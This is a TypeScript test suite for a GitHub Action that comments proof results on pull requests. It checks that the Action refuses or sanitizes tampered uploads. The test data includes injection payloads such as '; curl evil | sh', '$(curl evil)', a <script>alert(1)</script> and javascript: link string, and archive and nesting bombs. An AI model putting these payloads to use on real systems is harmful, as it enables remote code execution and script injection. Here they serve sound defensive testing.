import MarkdownIt from "markdown-it";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { writeProof } from "../../src/reports/verify/proof-statements.ts";
import { commentOnPull } from "../../src/runs/comment-on-pull.ts";
import { createSanitizer } from "../../src/safe-text/sanitizer.ts";
import { zip } from "../github/simulator/apps/artifacts.ts";
import { completedEvent } from "../github/simulator/apps/workflow-runs.ts";
import { git } from "../github/simulator/git.ts";
import { commitFiles } from "../github/simulator/make-repository.ts";
import { personOf } from "../github/simulator/people.ts";
import { type Simulator, startSimulator } from "../github/simulator/simulator.ts";
import { VERIFIED } from "../reports/verify/verified.ts";

const RUN = 77;
const HOLDS = { ...VERIFIED, result: "holds", passes: true, reason: "1 test proves it" } as const;
const [OTHER_HEAD, MEBIBYTE] = ["c".repeat(40), 1024 ** 2];

let simulator: Simulator;
let head: string;
let pull: number;

beforeEach(async () => {
  simulator = await startSimulator({
    files: { "app.py": "" },
    people: { ann: "admin", eve: "read" },
  });
  // All that the workflow grants.
  const permissions = { actions: "read", pull_requests: "write" } as const;
  simulator.addToken("job-token", { login: "github-actions[bot]", permissions, isJobToken: true });
  const { gitDir } = simulator.world;
  head = commitFiles(gitDir, { branch: "fork", files: { "app.py": "1\n" }, from: "main" });
  git(gitDir, "update-ref", "-d", "refs/heads/fork");
  pull = personOf(simulator.world, "eve").opensPull({ head: "main", base: "main", commit: head });
});

afterEach(async () => {
  expect(simulator.violations).toEqual([]);
  await simulator.close();
});

describe("the card of a pull request", () => {
  it("appears for a pull request from a fork, although the run does not say which it is", async () => {
    upload(proofOf(HOLDS));
    expect(await comment()).toMatchObject({ status: "holds", pull: { number: pull } });
    const [card, ...others] = comments(pull);
    expect(others).toEqual([]);
    expect(card?.author).toBe("github-actions[bot]");
    expect(card?.body).toContain("## ✅ The change holds\n\n1 test proves it.");
    expect(card?.body).toContain("@@ shop/cart.py:3 @@ 1 → 2");
    expect(card?.body).toContain(`/octo/shop/actions/runs/${RUN}`);
    expect(card?.body).toContain("Verify it yourself");
  });

  it("is edited in place by the next run", async () => {
    upload(proofOf(HOLDS));
    await comment();
    upload(proofOf({ ...VERIFIED }), { run: 78 });
    expect(await comment({ id: 78 })).toMatchObject({ status: "does-not-hold" });
    expect(comments(pull).map(({ body }) => body.split("\n")[1])).toEqual([
      "## ❌ The change does not hold",
    ]);
  });

  it("is of the last attempt of a run that was started again", async () => {
    upload(proofOf({ ...VERIFIED }));
    upload(proofOf(HOLDS));
    expect(await comment()).toMatchObject({ status: "holds" });
  });

  it("says so if the run ended without a proof, so that no older result stays", async () => {
    upload(proofOf(HOLDS));
    await comment();
    await comment({ id: 78, conclusion: "failure" });
    const [card] = comments(pull);
    expect(card?.body).toContain(`## ⚠️ There is no result for \`${head.slice(0, 10)}\``);
    expect(card?.body).toContain("ended with failure, and it uploaded no artifact named proof");
  });

  it("belongs to the pull request with the run's head, and not to another of the same branch", async () => {
    const { world } = simulator;
    personOf(world, "ann").opensPull({ head: "main", base: "main", commit: OTHER_HEAD });
    personOf(world, "eve").opensPull({ head: "main", base: "main", commit: OTHER_HEAD });
    upload(proofOf(HOLDS));
    expect(await comment()).toMatchObject({ pull: { number: pull } });
    expect([...world.issues.values()].map(({ comments: own }) => own.length)).toEqual([1, 0, 0]);
  });

  it("is not written for a head that has moved on, or that two pull requests have", async () => {
    const { world } = simulator;
    upload(proofOf(HOLDS));
    const event = completedEvent(world, { id: RUN, pull });
    const twin = personOf(world, "eve").opensPull({ head: "main", base: "main", commit: head });
    expect(await comment({}, event)).toMatchObject({
      pull: null,
      reason: expect.stringContaining("2 open pull requests"),
    });
    personOf(world, "eve").closesPull(twin);
    pullOf(pull).lastHead = OTHER_HEAD;
    expect(await comment({}, event)).toMatchObject({ status: "ignored", pull: null });
    expect(comments(pull)).toEqual([]);
  });

  it("is not written for a run that no pull request started", async () => {
    upload(proofOf(HOLDS));
    expect(await comment({ event: "merge_group" })).toMatchObject({ pull: null });
    await expect(comment({}, { name: "push", payload: {} })).rejects.toThrow(
      "mode: comment is for workflow_run, not for push events.",
    );
  });

  it("comes with a label while the change holds, if one is named", async () => {
    upload(proofOf(HOLDS));
    await comment({}, undefined, "proven");
    expect(simulator.world.issues.get(pull)?.labels).toEqual(["proven"]);
    await comment({ id: 78 }, undefined, "proven");
    expect(simulator.world.issues.get(pull)?.labels).toEqual([]);
  });
});

describe("a proof that hostile code has uploaded", () => {
  const refusals: [string, () => Upload, string][] = [
    [
      "is about another commit",
      () => proofOf({ ...HOLDS, head: OTHER_HEAD }),
      "is about another commit",
    ],
    [
      "claims a result that does not exist",
      () => edited('"result":"holds"', '"result":"perfect"'),
      NO_PROOF,
    ],
    [
      "requires what is no policy",
      () => edited('"require":"proof"', '"require":"; curl evil | sh"'),
      NO_PROOF,
    ],
    ["has a commit that is none", () => edited(VERIFIED.base, "$(curl evil)"), NO_PROOF],
    ["says two things", () => edited('"passedTests":[', '"passedTests":["x",'), NO_PROOF],
    ["is no JSON", () => ({ "proof.json": "holds" }), NO_PROOF],
    ["is no text", () => ({ "proof.json": Buffer.from([0xff, 0xfe, 0x00]) }), NO_PROOF],
    ["is nested a million deep", () => ({ "proof.json": deep(1e6) }), NO_PROOF],
    ["is nested in a field", () => edited('"passes":true', `"passes":${deep(1e6)}`), NO_PROOF],
    ["has a million lines", () => ({ "proof.json": "{}\n".repeat(1e6) }), NO_PROOF],
    [
      "is named otherwise",
      () => ({ "../proof.json": "", "dir/proof.json": "" }),
      "its artifact is no archive with a proof.json",
    ],
    [
      "is 100 MB of zeros",
      () => ({ "proof.json": Buffer.alloc(100 * MEBIBYTE) }),
      "larger than 8 MB",
    ],
    [
      "is no archive",
      () => Buffer.from("PK\x05\x06 and no more"),
      "its artifact is no archive with a proof.json",
    ],
    [
      "has a directory elsewhere",
      () => brokenDirectory(),
      "its artifact is no archive with a proof.json",
    ],
  ];

  it.each(refusals)("that %s is refused, and the card says why", async (_, uploaded, reason) => {
    upload(uploaded());
    expect(await comment()).toMatchObject({ status: "not-judged" });
    const [card, ...others] = comments(pull);
    expect(others).toEqual([]);
    expect(card?.body).toContain("## ⚠️ There is no result");
    expect(card?.body).toContain(reason);
    expect(card?.body.length).toBeLessThan(2000);
  });

  it("is not downloaded whole, whatever size it claims to have", async () => {
    upload(Buffer.alloc(40 * MEBIBYTE), { size: 10 });
    await comment();
    expect(comments(pull)[0]?.body).toContain("larger than 2 MB");
    upload(proofOf(HOLDS), { run: 78, size: 3 * MEBIBYTE });
    simulator.journal.length = 0;
    await comment({ id: 78 });
    expect(comments(pull)[0]?.body).toContain("larger than 2 MB");
    expect(simulator.journal.some(({ path }) => path.includes("/storage/"))).toBe(false);
  });

  it("has expired, or cannot be reached", async () => {
    upload(proofOf(HOLDS), { isExpired: true });
    await comment();
    expect(comments(pull)[0]?.body).toContain("its artifact has expired");
    upload(proofOf(HOLDS), { run: 78 });
    simulator.fail({ method: "GET", path: /\/storage\//, status: 404 });
    await expect(comment({ id: 78 })).rejects.toThrow(/Downloading the proof failed: .* 404/);
  });

  it("gets no word of Markdown or HTML through, no mention, no link and no command", async () => {
    const evil =
      "x</code></details><script>alert(1)</script><!-- tdd-arbiter verify --> @ann #1 closes #2 ![a](https://evil.example/a.png) [b](javascript:alert(1)) `` | ``` \u202e\n\n# Heading\n/tdd start\nhttps://evil.example";
    const tests = VERIFIED.tests.map((test) => ({
      ...test,
      id: `${evil}.py::${evil}`,
      reason: evil,
    }));
    const mutants = VERIFIED.mutants.map((mutant) => ({ ...mutant, file: evil, change: evil }));
    const hunks = [{ file: evil, from: 1, to: 2, neededBy: [] }];
    const waivers = [{ test: evil, reason: evil, by: evil, counts: true }];
    const required = { ...VERIFIED.required, waivers };
    upload(proofOf({ ...HOLDS, reason: evil, tests, mutants, hunks, required }));
    expect(await comment()).toMatchObject({ status: "holds" });
    const body = comments(pull)[0]?.body ?? "";
    expectHarmless(body);
  });

  it("is shown within GitHub's limit, and in seconds, with 40,000 tests", async () => {
    const [first] = VERIFIED.tests;
    if (first === undefined) throw new Error("unreachable");
    const flood = (id: (index: number) => string) =>
      Array.from({ length: 20_000 }, (_, index) => ({ ...first, id: id(index) }));
    const tests = [...flood((index) => `t.py::t[${index}]`), ...flood((index) => `${index}.py::t`)];
    const mutants = Array.from({ length: 10_000 }, (_, line) => ({
      file: "a",
      line,
      change: "b",
      noticedBy: null,
    }));
    upload(proofOf({ ...HOLDS, tests, mutants }));
    await comment();
    expect(comments(pull)[0]?.body).toContain("✅ The change holds");
    expect(comments(pull)[0]?.body.length).toBeLessThan(65_536);
  });
});

const reader = new MarkdownIt({ html: true, linkify: true });

/** Only what we write ourselves is markup, and the only link is that to the run. */
function expectHarmless(body: string): void {
  const tokens = reader.parse(body, {}).flatMap((token) => [token, ...(token.children ?? [])]);
  const html = tokens.filter(({ type }) => type.startsWith("html_"));
  const tags = new Set(html.flatMap(({ content }) => content.match(/<[^>]*>/g) ?? []));
  const ours = ["<details>", "<summary>", "</summary>", "</details>", "<sub>", "</sub>"];
  expect([...tags].filter((tag) => !ours.includes(tag))).toEqual([MARKER]);
  expect(tokens.filter(({ type }) => type === "image")).toEqual([]);
  const links = tokens.filter(({ type }) => type === "link_open").map((one) => one.attrGet("href"));
  expect(links).toEqual([`${simulator.url}/octo/shop/actions/runs/${RUN}`]);
  const shown = tokens.filter(({ type }) => type === "text").map(({ content }) => content);
  expect(shown.filter((words) => /@\w|#[12]\b|:\/\/|^Heading/.test(words))).toEqual([]);
  expect(body.indexOf("<!--", 1)).toBe(-1);
  expect(body).not.toMatch(/^\s*\/tdd/m);
  expect(body).not.toContain("\u202e");
}

const MARKER = "<!-- tdd-arbiter verify -->";

const NO_PROOF = "its proof.json is not what TDD Arbiter";

type Upload = Uint8Array | Readonly<Record<string, string | Uint8Array>>;

function upload(
  content: Upload,
  { run = RUN, size, isExpired = false }: { run?: number; size?: number; isExpired?: boolean } = {},
): void {
  const { artifacts, nextId } = simulator.world;
  const bytes = content instanceof Uint8Array ? content : zip(content);
  artifacts.push({
    id: nextId(),
    run,
    name: "proof",
    bytes,
    size: size ?? bytes.length,
    isExpired,
  });
}

function proofOf(report: Parameters<typeof writeProof>[0]) {
  const isOther = report.head === OTHER_HEAD;
  return { "proof.json": writeProof(isOther ? report : { ...report, head }) };
}

/** A proof of a change that holds, with a part of it replaced. */
function edited(part: string, by: string) {
  const text = proofOf(HOLDS)["proof.json"];
  if (!text.includes(part)) throw new Error(`the proof has no ${part}`);
  return { "proof.json": text.replace(part, () => by) };
}

function deep(levels: number): string {
  return `${"[".repeat(levels)}${"]".repeat(levels)}`;
}

function brokenDirectory(): Uint8Array {
  const bytes = Buffer.from(zip(proofOf(HOLDS)));
  bytes.writeUInt32LE(0xfffffff0, bytes.length - 6);
  return bytes;
}

type Ran = Omit<Parameters<typeof completedEvent>[1], "pull" | "id"> & { id?: number };

function comment(
  run: Ran = {},
  event = completedEvent(simulator.world, { id: RUN, pull, ...run }),
  cardLabel: string | null = null,
) {
  const { owner, repo } = simulator.world;
  return commentOnPull({
    job: { event, repository: { owner, repo }, apiUrl: simulator.url, serverUrl: simulator.url },
    inputs: { token: "job-token", cardLabel },
    safe: createSanitizer({ secrets: [] }),
    warn: () => {},
  });
}

function comments(number: number) {
  return simulator.world.issues.get(number)?.comments ?? [];
}

function pullOf(number: number) {
  const found = simulator.world.issues.get(number)?.pull;
  if (!found) throw new Error(`${number} is no pull request`);
  return found;
}
